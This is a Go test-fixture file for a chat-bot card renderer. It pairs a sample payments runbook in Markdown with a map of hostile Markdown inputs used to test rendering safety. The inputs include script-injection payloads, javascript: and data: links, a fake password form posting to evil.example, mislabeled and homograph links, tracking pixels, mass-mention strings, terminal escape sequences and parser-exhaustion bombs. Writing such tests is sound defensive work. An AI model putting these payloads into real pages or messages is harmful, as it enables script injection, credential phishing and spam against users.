package cardtest

import (
	"strings"

	"callboard/bot/card"
)

// Markdown gives a page with everything in it that Markdown of catalogs has.
func Markdown() string {
	return strings.ReplaceAll(`---
title: High error rate
weight: 20
---

# High error rate

More than 2 % of payments fail for 5 minutes. **Customers notice**, the [budget](https://grafana.acme.example/d/slo) of
a month is gone in _about 6 hours_.

!!! warning "Never restart the ledger at peak"
    It replays its journal first, which takes 20 minutes.

    - ask in #pay-eng
    - then use ''ledgerctl drain''

??? note
    Dashboards are in the [reader's zone](./zones.md), logs in UTC.

> [!CAUTION]
> Refunds stop while the queue is paused.

> "It is always the DNS", said Mira,
> and was right.

## Diagnosis

1. Look at the provider's [status page](https://status.provider.example), then at
   https://grafana.acme.example/d/checkout/overview?from=now-1h.
2. Are pods restarting?

   ''''''sh
   kubectl -n payments get pods --selector app=checkout --sort-by=.status.containerStatuses[0].restartCount --output wide
   	if [ "$?" != 0 ]; then exit; fi
   ''''''
3. Compare:
   - the version ''v412''
     - its diff
     - its flags
   - the database
     1. locks
     2. disk

| signal | healthy | alarm | where to look |
|:-------|--------:|:-----:|---------------|
| errors | 0.1 % | 2 % | [errors](https://grafana.acme.example/d/errors) by code, then by region and customer |
| latency p99 | 240 ms | 1 s | traces of ''POST /pay'' |
| queue | 12 | > 5,000 | ''rate(queue_depth{app="checkout"}[5m])'' |

## Mitigation

- [x] tell #incidents
- [ ] shift traffic ~~by hand~~ with the switch
- [ ] roll back

<details>
<summary>What the switch does</summary>

It sends <region> traffic elsewhere.<!-- TODO: which? -->\
Takes 2&nbsp;minutes &mdash; ![the switch, on](https://wiki.acme.example/switch.png) 決済チーム knows more.

</details>

* * *

    indented code stays   as it is
`, "''", "`")
}

// runbook is a section of a runbook as it is served.
func runbook() *card.Card {
	return &card.Card{
		Title: "checkout: High error rate", Tags: []string{"runbook"},
		Summary: "What to do when more than 2 % of payments fail",
		Body:    card.Lines(Markdown()),
		Footer:  dots(card.Code("docs/runbook.md:12"), card.T("edited 41 d ago")),
		Actions: []card.Action{{Label: "Explain", Command: "runbook component:default/checkout --explain"}},
	}
}

// HostileMarkdown gives texts that attack a surface through its Markdown: links and pictures that lead
// elsewhere than they say, HTML, structures that never end, and texts of HostileTexts within marks. As
// those, each names itself in ASCII letters that any rendering keeps.
func HostileMarkdown() map[string]string {
	tick := "```"
	all := map[string]string{
		"md-script":         "md-script\n\n<script>alert(1)</script>\n\n<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
		"md-handler":        "md-handler <img src=x onerror=alert(1)> <svg/onload=alert(1)> <a href=\"https://evil.example\" onclick=alert(1)>x</a>",
		"md-frame":          "md-frame\n\n<iframe src=\"https://evil.example\"></iframe>\n\n<object data=x></object><embed src=x><base href=//evil.example>",
		"md-style":          "md-style <style>*{display:none}</style> <b style=\"position:fixed;inset:0\">x</b>",
		"md-form":           "md-form\n\n<form action=\"https://evil.example\"><input name=password><button>Sign in</button></form>",
		"md-meta":           "md-meta <meta http-equiv=refresh content=\"0;url=https://evil.example\"> <link rel=stylesheet href=//evil.example>",
		"md-half-tag":       "md-half-tag <script\n\n<img src=\"x\" onerror=\"alert(1)\"",
		"md-comment":        "md-comment <!-- --><script>alert(1)</script><!-- -->\n\n<!--\n\n<script>alert(1)</script>\n\n-->",
		"md-cdata":          "md-cdata <![CDATA[<script>alert(1)</script>]]> <?php evil ?> <!DOCTYPE html>",
		"md-nested-tags":    "md-nested-tags <scr<script>ipt>alert(1)</scr</script>ipt> <<script>alert(1)//<</script>",
		"md-layout":         "md-layout <<details>script>alert(1)<</details>/script> <<p>img src=x onerror=alert(1)>",
		"md-javascript":     "md-javascript [click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) [click](<java\tscript:alert(1)>)",
		"md-entity-scheme":  "md-entity-scheme [click](java&#115;cript&colon;alert(1)) [click](&#x6A;avascript:alert(1)) [click](javascript&#58;alert)",
		"md-escaped-scheme": "md-escaped-scheme [click](javascript\\:alert\\(1\\)) [click](\\javascript:alert)",
		"md-data":           "md-data [click](data:text/html;base64,PHNjcmlwdD4=) ![x](data:image/svg+xml,<svg/onload=alert(1)>)",
		"md-vbscript":       "md-vbscript [click](vbscript:msgbox) [click](file:///etc/passwd) [click](ftp://evil.example) [click](slack://open)",
		"md-autolink":       "md-autolink <javascript:alert(1)> <data:text/html,x> <https://good.example@evil.example/> <https://evil.example/\u202egnp>",
		"md-false-label":    "md-false-label [https://good.example/login](https://evil.example/login)",
		"md-false-www":      "md-false-www [www.good.example](https://evil.example) [pay@good.example](mailto:pay@evil.example)",
		"md-false-bold":     "md-false-bold [**https://good**.example/](https://evil.example) [`https://good.example`](https://evil.example)",
		"md-false-entity":   "md-false-entity [https&colon;//good.example](https://evil.example) [https\\://good.example](https://evil.example)",
		"md-false-hidden":   "md-false-hidden [ht\u200btps://good.example](https://evil.example) [\u202ehttps://good.example](https://evil.example)",
		"md-false-image":    "md-false-image [![https://good.example](https://good.example/x.png)](https://evil.example)",
		"md-false-ref":      "md-false-ref [https://good.example] [https://good.example][a]\n\n[https://good.example]: https://evil.example\n[a]: https://evil.example",
		"md-split-label":    "md-split-label https://good.example[/login](https://evil.example) [https://][good].example\n\n[good]: https://evil.example",
		"md-nested-link":    "md-nested-link [a [https://good.example](https://good.example) b](https://evil.example) [<https://good.example>](https://evil.example)",
		"md-userinfo":       "md-userinfo [click](https://good.example@evil.example/) [click](https://good.example:pw@evil.example)",
		"md-backslash":      "md-backslash [click](https://good.example\\@evil.example) [click](https:\\\\evil.example) [click](https:/\\evil.example)",
		"md-homograph":      "md-homograph [раураl](https://раураl.example/) https://раураl.example/",
		"md-quote":          "md-quote [click](https://evil.example/\"onmouseover=\"alert(1)) [click](<https://evil.example/'><script>alert(1)</script>>)",
		"md-title":          "md-title [click](https://real.example \"\\\" onmouseover=alert(1) \\\"\") ![a\"onerror=alert(1)](https://evil.example/x.png \"x\")",
		"md-track":          "md-track ![](https://evil.example/pixel.gif) ![x](//evil.example/pixel.gif) <img src=https://evil.example/pixel.gif>",
		"md-relative":       "md-relative [up](../../../../etc/passwd) [host](//evil.example/x) [here](#top) [empty]() [q](?q=<script>)",
		"md-mentions":       "md-mentions <!channel> **<!here>** [<@U012345>](https://real.example) `<!subteam^S012345>` @everyone [@here](x)\n\n# @everyone\n\n| <!channel> | @here |\n|--|--|\n| <@&1> | <#C1> |",
		"md-mention-entity": "md-mention-entity &lt;!channel&gt; &#60;!here&#62; \\<!channel\\> &#64;everyone @\\everyone @**every**one",
		"md-fence":          "md-fence\n\n" + tick + "\n" + tick + "\n<!channel> [x](javascript:alert(1)) <script>alert(1)</script>",
		"md-fence-inner":    "md-fence-inner\n\n````\n" + tick + "\n@everyone\n" + tick + "\n</code></pre><script>alert(1)</script>\n````\n\n~~~\n" + tick + "\n~~~",
		"md-fence-info":     "md-fence-info\n\n" + tick + "\"><script>alert(1)</script> onload=x\ncode\n" + tick,
		"md-fence-open":     "md-fence-open\n\n" + tick + "sh\n\x1b]52;c;cm0=\x07 \u202egnp\n</code></pre><img src=x onerror=alert(1)>",
		"md-ticks":          "md-ticks `a``b```c `` ` `` \\` `</code><script>alert(1)</script>`",
		"md-admonition":     "md-admonition\n\n!!! warning \"<script>alert(1)</script> \x1b[31m <!channel>\"\n    [click](javascript:alert(1))\n\n!!! \"><script>\"\n    x\n\n!!! a-very-long-kind-of-admonition-that-is-none\n    x",
		"md-front":          "md-front\n\n---\ntitle: <script>alert(1)</script>\n---\n\n# x",
		"md-table":          "md-table\n\n| <script>alert(1)</script> | [https://good.example](https://evil.example) |\n|:-:|--:|\n| \u202egnp | a\x1b[2Jb |\n| only one\n| a | b | c | d |",
		"md-table-bomb":     "md-table-bomb\n\n" + strings.Repeat("|a", 1300) + "\n" + strings.Repeat("|-", 1300) + "\n" + strings.Repeat("|\n", 800),
		"md-quote-bomb":     "md-quote-bomb\n\n" + strings.Repeat("> ", 3500) + "x",
		"md-list-bomb":      "md-list-bomb\n\n" + strings.Repeat("- ", 3500) + "x",
		"md-number":         "md-number\n\n999999999. nine digits\n\n- " + strings.Repeat("1. ", 30) + "deep",
		"md-bracket-bomb":   "md-bracket-bomb " + strings.Repeat("[", 3000) + strings.Repeat("](", 1500),
		"md-emphasis-bomb":  "md-emphasis-bomb " + strings.Repeat("*a **b ", 1000),
		"md-reference-bomb": "md-reference-bomb\n\n[a]: https://evil.example/" + strings.Repeat("x", 1900) + "\n\n" + strings.Repeat("[a] ", 1400),
		"md-long-word":      "md-long-word " + strings.Repeat("x", 3000) + "\n\n    " + strings.Repeat("決", 1000),
		"md-lines":          "md-lines\n\n" + strings.Repeat("a\n\n", 2500),
		"md-blank-link":     "md-blank-link [\u200b](https://evil.example) [ ](https://evil.example) [](https://evil.example) [\u3164](https://evil.example)",
		"md-strike":         "md-strike ~~never~~ run ~~[this](https://evil.example)~~",
		"md-tabs":           "md-tabs\n\n-\tone\n\n\t\tcode\n\n >\t\tquoted",
	}
	return all
}
